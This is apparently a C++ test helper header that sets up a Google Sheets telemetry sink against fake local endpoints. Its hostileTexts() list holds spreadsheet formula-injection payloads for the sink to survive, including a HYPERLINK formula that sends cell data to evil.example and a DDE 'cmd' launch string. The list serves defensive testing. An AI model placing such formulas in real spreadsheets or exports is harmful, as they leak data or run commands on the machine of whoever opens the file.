#pragma once

#include "recordingpublisher.h"
#include "sheetstesthelpers.h"
#include "sheetstestserver.h"
#include "telemetry/sheets/sheetsrow.h"
#include "telemetry/sheets/sheetssink.h"
#include "testserviceaccount.h"

#include <QJsonArray>
#include <QTemporaryDir>

#include <memory>
#include <string_view>

// One Sheets sink test's world: the fake Google endpoints on 127.0.0.1, a log directory, what
// the sink publishes about itself, and settings that point the real sink at the fakes with
// intervals short enough for a test.
namespace breakwater::sheetstest {

// Long enough for a loaded CI machine; a passing run takes a fraction of it.
inline constexpr int kDeliveryTimeoutMs = 10'000;

inline const QString kSpreadsheetId = QStringLiteral("1bW-test_Spreadsheet");
inline const QString kRange = QStringLiteral("Sheet1!A1");

// The index of a column by its name, as the test reads the spreadsheet.
inline qsizetype sheetsColumn(std::string_view name)
{
    for (std::size_t i = 0; i < kSheetsColumns.size(); ++i) {
        if (kSheetsColumns[i] == name)
            return qsizetype(i);
    }
    return -1;
}

// Text a spreadsheet or a CSV reader could take for something else: formulas (CWE-1236),
// quotes, separators, line breaks, a lone backslash, text beyond ASCII.
inline QStringList hostileTexts()
{
    return {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open me\")"),
        QStringLiteral("+1+1"),
        QStringLiteral("-2+3"),
        QStringLiteral("@SUM(A1:A9)"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=cmd|' /C calc'!A0"),
        QStringLiteral("say \"hello\", then 'bye'; done"),
        QStringLiteral("line one\nline two\r\nline three"),
        QString::fromUtf8("Z\xc3\xbcrich \xe2\x80\x93 \xe6\x9d\xb1\xe4\xba\xac \xf0\x9f\x8e\xa7"),
        QStringLiteral("trailing backslash \\"),
    };
}

// A failed call whose free-text fields are all hostile.
inline Event hostileOutcome(std::uint64_t sequence)
{
    const QStringList texts = hostileTexts();
    const auto at = [&](std::uint64_t k) {
        return texts.at(qsizetype(k % texts.size()));
    };
    Event e = callOutcome(sequence);
    e.type = EventType::CallFailed;
    e.level = EventLevel::Error;
    e.errorKind = ErrorKind::Permanent;
    e.httpStatus = 400;
    e.message = at(sequence);
    e.reason = at(sequence + 1);
    e.errorCode = at(sequence + 2);
    e.service = at(sequence + 3);
    return e;
}

// An event of a type the default sheets.events leaves out.
inline Event unselected(std::uint64_t sequence, EventType type)
{
    Event e = callOutcome(sequence);
    e.type = type;
    return e;
}

inline void feed(EventSink& sink, const std::vector<Event>& events)
{
    sink.consume(std::span<const Event>(events.data(), events.size()));
}

inline void feed(EventSink& sink, const Event& event)
{
    sink.consume(std::span<const Event>(&event, 1));
}

inline int countOf(const test::RecordingPublisher& events, EventType type)
{
    return events.recorder().count(type);
}

inline std::vector<Event> eventsOf(const test::RecordingPublisher& events, EventType type)
{
    std::vector<Event> out;
    for (const Event& e : events.recorder().events()) {
        if (e.type == type)
            out.push_back(e);
    }
    return out;
}

// Stops the sink on another thread while the fakes, on this one, keep answering.
inline bool stopInBackground(SheetsRowSink& sink, Duration grace)
{
    return runInBackground([&] { sink.stop(grace); }, 15'000);
}

struct SheetsRig
{
    explicit SheetsRig(const testing::TestServiceAccount& serviceAccount,
                       const QString& sheetRange = kRange)
        : account(serviceAccount)
        , range(sheetRange)
        , server(kSpreadsheetId, range, serviceAccount.clientEmail(), serviceAccount.publicKeyPem())
    {
        server.setExpectedColumns(int(kSheetsColumnCount));
    }

    // The service account's key, the fakes' URLs, a quick pace.
    SheetsSettings settings() const
    {
        SheetsSettings s;
        s.spreadsheetId = kSpreadsheetId;
        s.range = range;
        s.baseUrl = server.sheetsBaseUrl();
        s.tokenUrl = server.tokenUrl();
        s.credentialsFile = account.keyFilePath();
        s.batchInterval = std::chrono::milliseconds(200);
        s.maxBatchRows = 500;
        s.timeout = std::chrono::seconds(2);
        return s;
    }

    QString queueDirectory() const { return logDir.filePath(QStringLiteral("sheets-queue")); }

    SheetsSinkOptions options(const QString& runId = QStringLiteral("run0a1b2c3d")) const
    {
        SheetsSinkOptions o;
        o.queueDirectory = queueDirectory();
        o.retryBase = std::chrono::milliseconds(100);
        o.retryCap = std::chrono::milliseconds(400);
        o.permanentRetryDelay = std::chrono::milliseconds(600);
        o.runId = runId;
        return o;
    }

    std::unique_ptr<SheetsSink> sink(const SheetsSettings& s, const SheetsSinkOptions& o)
    {
        return std::make_unique<SheetsSink>(s, events, o);
    }
    std::unique_ptr<SheetsSink> sink() { return sink(settings(), options()); }

    int storedRows() const { return int(server.rows().size()); }
    // Milliseconds between the appends the fake received, in order.
    QList<qint64> gapsMs() const
    {
        QList<qint64> gaps;
        const auto& requests = server.appendRequests();
        for (std::size_t i = 1; i < requests.size(); ++i)
            gaps.append(requests[i].receivedAtMs - requests[i - 1].receivedAtMs);
        return gaps;
    }
    QString refusals() const { return server.refusals().join(QStringLiteral("; ")); }

    const testing::TestServiceAccount& account;
    const QString range;
    QTemporaryDir logDir;
    test::RecordingPublisher events;
    testing::SheetsTestServer server;
};

} // namespace breakwater::sheetstest
